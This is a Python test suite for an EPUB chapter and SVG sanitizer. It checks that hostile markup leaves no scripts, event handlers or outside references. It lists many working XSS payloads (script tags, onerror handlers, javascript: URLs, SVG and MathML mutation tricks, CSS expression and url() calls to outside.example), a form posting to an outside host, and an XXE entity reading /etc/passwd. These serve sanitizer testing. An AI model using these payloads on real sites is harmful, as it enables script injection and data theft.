"""What is left of a hostile chapter: judged by another parser than the one that cleaned it."""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser

import epub_samples
import pytest
import tinycss2
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from library.epub.allowed import SHAPES, TAGS
from library.epub.cleaning import clean_drawing
from library.epub.pack import Pack
from library.epub.styles import Styles
from library.epub.unpacking import unpack
from library.errors import EpubError

OWN = re.compile(r"(c\d+(#x-.*)?|#x-.*|r\d+)", re.DOTALL)
LINKING = {"href", "src", "poster", "action", "srcset", "data", "xlink:href", "formaction", "background"}


class Judge(HTMLParser):
    """Python's own parser, which knows nothing of nh3: collects what must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in LINKING and not OWN.fullmatch(value or "")):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "style" and asks(value or ""):
                self.wrong.append(f"style={value}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    handle_pi = unknown_decl = handle_comment = handle_decl


def asks(style: str) -> bool:
    """Whether a style could fetch or run something."""
    return any(sign in style.lower() for sign in ("url", "import", "expression", "behavior", "javascript", "image("))


def faults(text: str) -> list[str]:
    judge = Judge()
    judge.feed(text)
    judge.close()
    return judge.wrong


def pack_of(body: str | bytes, **more: str) -> Pack:
    """The pack of an EPUB with one chapter of this body (bytes: the whole chapter as it stands)."""
    if isinstance(body, bytes):
        return Pack(unpack(io.BytesIO(epub_samples.epub3({"a.xhtml": ""}, {"OEBPS/a.xhtml": body}))))
    return Pack(unpack(io.BytesIO(epub_samples.epub3({"a.xhtml": body}, more))))


def cleaned(body: str | bytes) -> str:
    pack = pack_of(body)
    return pack.read("c0").decode() if not pack.book.problem else ""


ATTACKS = [
    "<script>alert(1)</script>",
    "<script/>hai<p>ba</p>",
    "<SCRIPT SRC=//outside.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)"/>',
    '<img src="http://outside.example/a.png"/>',
    '<img src="//outside.example/a.png" srcset="http://outside.example/b.png 2x"/>',
    '<a href="javascript:alert(1)">a</a><a href=" java&#10;script:alert(1)">b</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">c</a>',
    '<a href="vbscript:x">d</a><a href="https://outside.example/">e</a><a href="../../../../etc/passwd">f</a>',
    '<form action="http://outside.example/"><input name="pin"/><button>Vào</button></form>',
    '<iframe src="/quan-tri"></iframe><object data="x.swf"></object><embed src="x"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a xlink:href="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject><body xmlns="http://www.w3.org/1999/'
    'xhtml" onload="alert(1)"/></foreignObject></svg>',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><style><img src="x" onerror="alert(1)"/></style></mtext>'
    "</math>",
    '<p style="background:url(http://outside.example/x.png);position:fixed">x</p>',
    '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
    '<style>@import "http://outside.example/a.css"; p{background:url(//outside.example/b)}</style>',
    '<link rel="stylesheet" href="http://outside.example/a.css"/><base href="http://outside.example/"/>',
    '<meta http-equiv="refresh" content="0;url=http://outside.example/"/>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    '<video poster="http://outside.example/a.png"><source src="http://outside.example/a.mp4"/></video>',
    '<p id="x" onclick="alert(1)" data-x="1" contenteditable="true" autofocus="" onfocus="alert(1)">x</p>',
    "<!--[if IE]><script>alert(1)</script><![endif]--><?php x ?><![CDATA[<script>alert(1)</script>]]>",
    '<a href="c0" ping="http://outside.example/" target="_top">x</a><area href="javascript:x"/>',
    "<title>x</title><textarea></p><script>alert(1)</script></textarea><template><img src=x onerror=x></template>",
    "<p><table><tr><td><svg><style><img title='</style><img src=x onerror=alert(1)>'></svg></table>",
]


def test_the_judge_sees() -> None:
    text = (
        "<script>x</script><img src=http://o/ onerror=x><a href='javascript:x'>x</a><p style='a:url(x)'>x</p><!--x-->"
    )
    assert len(faults(text)) == 6


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_nothing(attack: str) -> None:
    for body in (attack, f"{attack}<p>unclosed", f"<h1>Đầu</h1>{attack}<p>Cuối &nbsp;</p>"):
        text = cleaned(body + "<p>còn</p>")
        assert faults(text) == [], text
        assert "alert" not in re.sub("&lt;.*?&gt;|<[^>]*>|alert\\(1\\)", "", text)


def test_a_drawing_may_be_a_whole_chapter_and_a_name_may_be_none() -> None:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1"/></svg>'
    assert cleaned(drawing) == '<p><img src="r0" alt="" loading="lazy"></p>'
    assert cleaned(b"<p>hai</p><<script>x</script>ba").startswith("<p>hai</p>")


def test_words_stay_where_only_their_wrapping_goes() -> None:
    text = cleaned("<form><p>mất</p></form><blink>còn</blink><p><font color='red'>chữ <b>đậm</b></font></p>")
    assert "còn" in text
    assert "chữ <b>đậm</b>" in text
    assert "mất" not in text


FRAGMENTS = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<![CDATA[",
     "]]>", "<title>", "<noscript>", "</noscript>", "<a href='", "'", '"', ">", "<", "&lt;script&gt;", "\0", "\ufeff",
     "<table>", "<td>", "<select>", "<option>", "<img src=", " onerror=alert(1) ", "javascript:", "&#x6A;",
     "<annotation-xml>", "<foreignObject>", "<desc>", "<mglyph>", "<malignmark>", "<plaintext>", "<xmp>", "<listing>",
     "gà", "ស្រូវ"]
)  # fmt: skip


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=12))
def test_no_mixture_leaves_a_script_a_handler_or_an_outside_reference(parts: list[str]) -> None:
    text = cleaned("".join(parts).encode("utf-8", "replace"))
    assert faults(text) == [], text
    assert faults(cleaned(f"<html><body>{text}</body></html>".encode())) == []


@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_left_out(data: bytes) -> None:
    assert faults(cleaned(data)) == []


DECLARATIONS = st.sampled_from(
    ["color:red", "background:url(http://x/)", "font-family:'A'", "width:calc(1px + 1em)", "}", "{", "@import 'x';",
     "p{", "<style>", "</style>", "/*", "*/", "\\", "src:url(a.woff)", "@font-face{", "@media print{", ";", "u\\72l(x)",
     "width:expression(x)", "list-style:url(x)", "float:left", "body", ">", ",", "a:hover", "[x='y']", '"', "<!--"]
)  # fmt: skip


@given(st.lists(st.one_of(DECLARATIONS, st.text(max_size=8)), max_size=15).map(" ".join))
def test_no_style_asks_for_anything_or_leaves_its_chapter(text: str) -> None:
    clean = Styles(font=lambda reference: "r1").clean(text)
    assert "<" not in clean
    for rule in tinycss2.parse_stylesheet(clean, skip_whitespace=True):
        if rule.type == "qualified-rule":
            written = tinycss2.serialize(rule.prelude)
            assert all(part.strip().startswith(".chapter") for part in re.split(r",(?![^(\[]*[)\]])", written)), clean
            assert not asks(tinycss2.serialize(rule.content)), clean
        else:
            assert rule.type == "at-rule", clean
            assert rule.lower_at_keyword in {"media", "font-face"}, clean
            assert "http" not in tinycss2.serialize(rule.content)
    declared = Styles().clean_declarations(text)
    assert not asks(declared)
    assert not {"<", "{", "}"} & set(declared)


DRAWINGS = [
    '<svg xmlns="http://www.w3.org/2000/svg"><script>x</script><g onclick="x"><path d="M0 0"/></g></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="http://o/#a"/>'
    '<image href="http://o/a.png"/><a href="javascript:x"><rect fill="url(http://o/#p)" width="1"/></a></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "http://o/"; rect{fill:url(http://o/)}</style>'
    '<animate attributeName="href" to="javascript:x"/><set attributeName="onclick" to="x"/></svg>',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>x</x:script><h:script xmlns:h="http://www.w3.org/1999/xhtml">x'
    "</h:script><x:rect width='1'/></x:svg>",
]


@pytest.mark.parametrize("drawing", DRAWINGS)
def test_a_drawing_keeps_only_its_shapes(drawing: str) -> None:
    clean = clean_drawing(drawing.encode())
    root = etree.fromstring(clean)
    for element in root.iter():
        assert etree.QName(element).namespace == "http://www.w3.org/2000/svg"
        assert etree.QName(element).localname in SHAPES | {"style"}
        assert [name for name in element.attrib if name.startswith("on")] == []
        assert [value for value in element.attrib.values() if "//" in value or "javascript" in value] == []
    assert b"http://o" not in clean
    assert b"root:" not in clean
    assert b"import" not in clean


def test_what_is_no_drawing_is_refused() -> None:
    with pytest.raises(EpubError):
        clean_drawing(b"<html/>")
    with pytest.raises(EpubError):
        clean_drawing(b"")


def test_styles_that_help_reading_stay() -> None:
    text = "h1, h2 > em { text-align: center; color: #000 } @media print { p { margin: 1em } } body.a { float: left }"
    clean = Styles().clean(text)
    assert ".chapter h1,.chapter h2 > em{text-align:center}" in clean
    assert "@media print{.chapter p{margin:1em}}" in clean
    assert (
        Styles().clean("p { font-size: 6pt } q { font-size: 1.5em } s { font-size: 50% }")
        == ".chapter q{font-size:1.5em}"
    )
